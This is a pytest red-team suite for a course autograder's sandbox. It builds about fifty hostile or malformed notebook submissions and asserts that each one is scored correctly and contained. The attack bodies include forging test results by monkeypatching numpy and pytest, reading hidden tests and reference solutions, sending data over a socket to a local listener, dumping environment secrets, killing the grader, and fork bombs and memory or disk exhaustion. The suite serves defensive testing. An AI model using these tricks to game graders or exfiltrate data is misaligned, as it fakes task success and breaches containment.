"""The red team: hostile and broken submissions to the pilot assignment, graded as one class.

Each attack has the verdict it must get (score, message), and the class run must be unharmed:
every notebook graded once, the honest student at full marks, the course's files unchanged,
no process left behind. Destructive attacks are bounded (a fork bomb of at most 200 children,
a 100 MB print, a 50 GB allocation that the memory limit refuses)."""
import copy
import json
import os
import socket
import subprocess
import threading
from collections.abc import Callable
from dataclasses import dataclass

import nbformat
import pytest
from conftest import PILOT, write_notebook

from coursekit.course.build import notebook_text, reference_and_template
from coursekit.course.notebook import cell_role, grade_id
from coursekit.grading.pipeline import grade_class
from coursekit.sandbox.plan import namespace_wrapper

SECRET = "coursekit-redteam-secret-7f3a"


@dataclass
class Attack:
    name: str
    make: Callable        # (reference_nb, release_nb, ctx) -> notebook text
    verdict: str          # "zero", "full", "partial", "unreadable", "below-full"
    says: str = ""        # must appear in the feedback (a message, warning or status)


def _each_solution(nb, body_for):
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell_role(cell) == "solution":
            cell.source = body_for(grade_id(cell), cell.source)
    return nb


def _all(body: str, header: str = "", only_first: bool = False):
    """Every graded function (or only the first) replaced by one that runs ``body`` after ``header``;
    both are formatted with the context and ``name``, the function's name."""
    def make(ref, rel, ctx):
        def replace(g, s):
            indented = "\n".join("    " + line for line in body.format(name=g, **ctx).splitlines())
            return f"{header.format(name=g, **ctx)}\ndef {g}(*args, **kwargs):\n{indented}\n"
        nb = _each_solution(ref, replace) if not only_first else None
        if only_first:
            nb = copy.deepcopy(ref)
            first = [c for c in nb.cells if cell_role(c) == "solution"][0]
            first.source = replace(grade_id(first), first.source)
        return notebook_text(nb)
    return make


def _first(source_for):
    def make(ref, rel, ctx):
        nb = copy.deepcopy(ref)
        for cell in nb.cells:
            if cell_role(cell) == "solution":
                cell.source = source_for(grade_id(cell), cell.source, ctx)
                break
        return notebook_text(nb)
    return make


def _at_load(code: str):
    """The reference, with ``code`` run at the top of the first solution cell (load time)."""
    return _first(lambda g, s, ctx: code.format(**ctx) + "\n" + s)


def _edit(change):
    def make(ref, rel, ctx):
        nb = copy.deepcopy(ref)
        change(nb)
        return notebook_text(nb)
    return make


def _raw(text):
    return lambda ref, rel, ctx: text


def _set_meta(index_role, **meta):
    def change(nb):
        cell = [c for c in nb.cells if cell_role(c) == index_role][0]
        cell.metadata.nbgrader.update(meta)
    return change


def _dup_grade_id(nb):
    """A second cell with the first solution's grade_id, after it, redefining it wrongly: cells with
    one grade_id run as one cell in notebook order (split cells), so the later def counts, as in Jupyter."""
    first = [c for c in nb.cells if cell_role(c) == "solution"][0]
    wrong = copy.deepcopy(first)
    wrong.source = f"def {grade_id(first)}(*args, **kwargs):\n    return 0.0\n"
    wrong["id"] = "duplicate-solution"
    nb.cells.insert(nb.cells.index(first) + 1, wrong)


def _rename_grade_id(nb):
    cell = [c for c in nb.cells if cell_role(c) == "solution"][0]
    cell.metadata.nbgrader["grade_id"] = "my_own_name"


def _add_grade_cell(nb):
    cell = nbformat.v4.new_code_cell("assert True", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "grade_id": "test_bonus", "points": 100,
        "schema_version": 3}})
    nb.cells.append(cell)


def _delete_locked(nb):
    nb.cells = [c for c in nb.cells if cell_role(c) not in ("setup", "test")]


def _edit_setup(nb):
    setup = [c for c in nb.cells if cell_role(c) == "setup"][0]
    setup.source = "import numpy as np\nnp.allclose = lambda *a, **k: True\n"


def _helper_cells(*sources):
    """Cells without nbgrader metadata inserted after the setup cell (run only if they only define things)."""
    def change(nb):
        at = next(i for i, c in enumerate(nb.cells) if cell_role(c) == "setup") + 1
        nb.cells[at:at] = [nbformat.v4.new_code_cell(source) for source in sources]
    return change


def _zero_with_helpers(*sources):
    def make(ref, rel, ctx):
        nb = _each_solution(ref, lambda g, s: f"def {g}(*args, **kwargs):\n    return 0.0\n")
        _helper_cells(*sources)(nb)
        return notebook_text(nb)
    return make


def _no_kernelspec(nb):
    nb.metadata.pop("kernelspec", None)


def _v3(ref, rel, ctx):
    return nbformat.writes(nbformat.convert(copy.deepcopy(ref), 3))  # convert downgrades in place


ATTACKS = [
    # result forgery and test tampering
    Attack("patch-numpy-checks", _all("return 0.0", "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
           "np.testing.assert_allclose = lambda *a, **k: None\nnp.isclose = lambda *a, **k: True\n"
           "np.array_equal = lambda *a, **k: True"), "zero"),
    Attack("patch-builtins", _all("return 0.0", "import builtins\nbuiltins.isinstance = lambda *a: True\n"
           "builtins.abs = lambda x: 0\nbuiltins.len = lambda x: 0"), "zero"),
    Attack("patch-pytest", _all("return 0.0", "import pytest\npytest.approx = lambda *a, **k: 0.0\n"
           "import _pytest.outcomes\n_pytest.outcomes.fail = lambda *a, **k: None"), "zero"),
    Attack("pytest-skip-in-call", _all("import pytest\npytest.skip('nothing to see')"), "zero", "raised"),
    Attack("always-equal-object", _all("class Yes:\n    def __eq__(self, other): return True\n"
           "    __hash__ = object.__hash__\nreturn Yes()"), "zero", "cannot be returned"),
    Attack("ndarray-subclass", _all("import numpy as np\nclass Sneaky(np.ndarray):\n"
           "    def __eq__(self, other): return np.ones(self.shape, bool)\nreturn np.zeros(3).view(Sneaky)"),
           "zero", "cannot be returned"),
    Attack("sys-exit-in-call", _all("import sys\nsys.exit(0)"), "zero", "SystemExit"),
    Attack("os-exit-in-call", _all("import os\nos._exit(0)"), "zero", "exited"),
    Attack("keyboard-interrupt", _all("raise KeyboardInterrupt"), "zero", "KeyboardInterrupt"),
    Attack("base-exception", _all("raise BaseException('boom')"), "zero", "BaseException"),
    Attack("prints-fake-pass", _all("print('PASSED 12/12 -- score: 12/12, all tests passed')\nreturn 0.0"), "zero"),
    Attack("writes-fake-results", _at_load(
        "for _p in {writable_targets!r}:\n    try:\n        open(_p, 'w').write('ada,{pilot},0,12,graded')\n"
        "    except OSError:\n        pass\n"), "full"),
    # reading what must stay hidden
    Attack("reads-hidden-tests", _all("import os\nreturn os.listdir({autograder!r})"), "zero"),
    Attack("execs-reference-solution", _all("return _REF[{name!r}](*args, **kwargs) if {name!r} in _REF else 0.0",
           "_REF = {{}}\ntry:\n    exec(open({solution!r}).read(), _REF)\nexcept Exception:\n    pass"), "zero"),
    Attack("copies-other-student", _all("import json\nnb = json.load(open({ada!r}))\nreturn 0.0"), "zero"),
    Attack("reads-gradebook", _all("return open({gradebook!r}, 'rb').read(100).decode('latin-1')"), "zero"),
    Attack("network", _all("import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
           "s.sendall(b'stolen')\nreturn 0.0"), "zero"),
    Attack("environment-secrets", _all("import os\nprint(dict(os.environ))\nreturn 0.0"), "zero"),
    Attack("kills-grader", _all("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
           "os.kill(-1, signal.SIGKILL)\nreturn 0.0"), "zero"),
    # resource exhaustion
    Attack("infinite-loop", _all("while True:\n    pass", only_first=True), "below-full", "timed out after"),
    Attack("sleeps-forever", _all("import time\ntime.sleep(1e9)", only_first=True), "below-full", "timed out after"),
    Attack("allocates-50gb", _all("import numpy as np\nx = np.ones(int(50e9) // 8)\nreturn float(x.sum())"),
           "zero", "MemoryError"),
    Attack("bounded-fork-bomb", _all("import os, time\nfor _ in range(200):\n    try:\n"
           "        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n"
           "    except OSError:\n        break\nreturn 0.0"), "zero"),
    Attack("prints-100mb", _all("print('x' * 100_000_000)\nreturn 0.0"), "zero"),
    Attack("returns-100mb", _all("import numpy as np\nreturn np.zeros(13_000_000)"), "zero", "MiB"),
    Attack("returns-deep-nesting", _all("x = []\nfor _ in range(100000):\n    x = [x]\nreturn x"), "zero"),
    Attack("fills-scratch-disk", _all("for i in range(1000):\n    try:\n"
                                      "        open(f'f{{i}}', 'wb').write(b'0' * 200_000)\n"
           "    except OSError:\n        break\nreturn 0.0"), "zero"),
    Attack("leaves-background-process", _at_load(
        "import os\nif os.fork() == 0:\n    os.execv('/bin/sleep', ['sleep', '{sleep_marker}'])\n"), "full"),
    # notebook tampering
    Attack("edits-locked-setup", _edit(_edit_setup), "full"),
    Attack("deletes-locked-cells", _edit(_delete_locked), "full"),
    Attack("changes-points", _edit(_set_meta("test", points=1000)), "full"),
    Attack("duplicates-grade-id", _edit(_dup_grade_id), "below-full", "more than one cell with grade_id"),
    Attack("renames-grade-id", _edit(_rename_grade_id), "full", "found by its `def`"),
    Attack("solution-turned-test-cell", _edit(_set_meta("solution", grade=True, solution=False, points=50)), "full"),
    Attack("adds-grade-cell", _edit(_add_grade_cell), "full"),
    Attack("helper-cell-patches-numpy", _zero_with_helpers(
        "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n",
        "def _patch(done=setattr(np, 'isclose', lambda *a, **k: True)):\n    pass\n"), "zero"),
    Attack("helper-cell-redefines-setup-name", _edit(_helper_cells("np = 0\n", "import math as np\n")), "full",
           "setup cells were run again"),
    Attack("no-kernelspec", _edit(_no_kernelspec), "full"),
    Attack("nbformat-3", _v3, "full"),
    # malformed input
    Attack("not-json", _raw('{"cells": [ oops'), "unreadable", "not a readable notebook"),
    Attack("empty-file", _raw(""), "unreadable", "empty"),
    Attack("json-not-a-notebook", _raw('{"hello": "world"}'), "unreadable", "not a readable notebook"),
    Attack("json-list", _raw("[1, 2, 3]"), "unreadable", "not a readable notebook"),
    Attack("no-cells", _raw(json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})),
           "zero", "is missing from your notebook"),
    Attack("very-large", lambda ref, rel, ctx: notebook_text(ref).replace('"cells": [', '"cells": [' + json.dumps(
        nbformat.v4.new_markdown_cell("x" * 21_000_000)) + ",", 1), "unreadable", "MiB"),
    Attack("binary-garbage", _raw(os.urandom(4096).decode("latin-1")), "unreadable"),
    Attack("null-bytes", lambda ref, rel, ctx: notebook_text(ref).replace("import numpy", "import\x00numpy", 1),
           "unreadable", "null bytes"),
    Attack("syntax-error", _first(lambda g, s, ctx: s.replace("def ", "def def ", 1)), "below-full", "SyntaxError"),
    Attack("missing-function", _first(lambda g, s, ctx: s.replace(f"def {g}(", f"def {g}_v2(", 1)),
           "below-full", "is not defined"),
]


def _snapshot(root):
    """The pilot's files and the toolkit (other assignments may be edited by their authors meanwhile)."""
    paths = [f"autograder/{PILOT}", f"solutions/{PILOT}.py", f"release/{PILOT}", f"source/{PILOT}", "coursekit"]
    return {str(p): (p.stat().st_mtime_ns, p.stat().st_size) for d in paths
            for p in ([root / d] if (root / d).is_file() else (root / d).rglob("*"))}


def _sleepers(marker):
    out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if marker in line and "ps -eo" not in line]


SLEEP_MARKER = "987654"


def write_class(course, subs, out, port) -> None:
    """The red-team class: ada (the reference) and one student per attack, in ``subs``."""
    ctx = {"autograder": str(course.autograder_dir(PILOT)), "solution": str(course.solution_module(PILOT)),
           "ada": str(subs / "ada" / f"{PILOT}.ipynb"), "gradebook": str(out / "gradebook.db"),
           "port": port, "pilot": PILOT, "sleep_marker": SLEEP_MARKER,
           "writable_targets": [str(out / "grades.csv"), str(out / "gradebook.db"), str(course.root / "course.yml"),
                                str(out / "feedback" / "ada" / f"{PILOT}.html"), "/tmp/coursekit-redteam-was-here"]}
    reference, release = reference_and_template(course, PILOT)
    write_notebook(subs / "ada" / f"{PILOT}.ipynb", reference)
    for attack in ATTACKS:
        path = subs / attack.name / f"{PILOT}.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text(attack.make(reference, release, ctx), encoding="utf-8", errors="surrogateescape")


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection (the network attack's target)."""

    def __init__(self):
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(5)
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.received: list = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self):
        while not self.stop.is_set():
            try:
                self.received.append(self.socket.accept())
            except OSError:
                pass

    def close(self):
        self.stop.set()
        self.thread.join()
        self.socket.close()


@pytest.fixture(scope="module")
def red_team(course, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("redteam")
    subs, out = tmp / "submissions", tmp / "out"
    out.mkdir()
    listener = Listener()
    write_class(course, subs, out, listener.port)
    os.environ["COURSEKIT_REDTEAM_SECRET"] = SECRET
    before = _snapshot(course.root)
    try:
        result = grade_class(course, subs, output=out)
    finally:
        os.environ.pop("COURSEKIT_REDTEAM_SECRET")
        listener.close()
    return {"result": result, "out": out, "received": listener.received, "before": before,
            "after": _snapshot(course.root), "sleepers": _sleepers(f"sleep {SLEEP_MARKER}")}


def _feedback(out, student):
    return (out / "feedback" / student / f"{PILOT}.html").read_text()


def verdict_problem(attack, nb, html, full) -> str | None:
    """Why ``nb`` (graded ``attack``, feedback ``html``) does not have the attack's verdict, or None."""
    expected = {"zero": nb.final_score == 0 and nb.status == "graded",
                "full": nb.final_score == full and nb.status == "graded",
                "below-full": nb.final_score < full and nb.status == "graded",
                "unreadable": nb.final_score == 0 and nb.status == "unreadable"}[attack.verdict]
    if not expected:
        return f"{attack.name}: scored {nb.final_score}/{full} ({nb.status}), expected {attack.verdict}"
    if attack.says and attack.says not in html:
        return f"{attack.name}: the feedback does not say {attack.says!r}"
    if SECRET in html:
        return f"{attack.name}: the grader's environment leaked into the worker"
    return None


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_gets_its_verdict(red_team, course, attack):
    nbs = {nb.student: nb for nb in red_team["result"].graded}
    problem = verdict_problem(attack, nbs[attack.name], _feedback(red_team["out"], attack.name),
                              course.assignment(PILOT).points)
    assert problem is None, problem


def test_class_run_unharmed(red_team, course):
    result = red_team["result"]
    students = sorted(nb.student for nb in result.graded)
    assert students == sorted(["ada"] + [a.name for a in ATTACKS]), "every notebook graded exactly once"
    ada = next(nb for nb in result.graded if nb.student == "ada")
    assert ada.final_score == course.assignment(PILOT).points
    assert red_team["after"] == red_team["before"], "the course's files changed during grading"
    assert red_team["received"] == [], "a student's code reached the network"
    assert red_team["sleepers"] == [], "a student's process outlived grading"
    assert not os.path.exists("/tmp/coursekit-redteam-was-here")
    assert f"ada,{PILOT}" not in (course.root / "course.yml").read_text()
    grades = (red_team["out"] / "grades.csv").read_text()
    assert "ada,05_knowledge_distillation,12,12,graded" in grades
    assert "ada,05_knowledge_distillation,0" not in grades


def test_containment_figure(red_team, course):
    """Prints the containment figure: N of M attacks contained (all must be)."""
    nbs = {nb.student: nb for nb in red_team["result"].graded}
    full = course.assignment(PILOT).points
    contained = [a.name for a in ATTACKS if
                 {"zero": nbs[a.name].final_score == 0, "full": nbs[a.name].final_score == full,
                  "below-full": nbs[a.name].final_score < full,
                  "unreadable": nbs[a.name].status == "unreadable"}[a.verdict]]
    print(f"\ncontainment: {len(contained)} of {len(ATTACKS)} attacks contained; "
          f"sandbox: {red_team['result'].protections}")
    assert len(contained) == len(ATTACKS)


def test_protections_active_on_linux(red_team):
    if not namespace_wrapper():
        pytest.skip("no namespaces on this machine: the grader runs with rlimits and process groups only")
    p = red_team["result"].protections
    assert p["network"] == "isolated" and p["privileges"] in ("uid nobody", "no capabilities")
    assert p["filesystem"].startswith("course hidden")
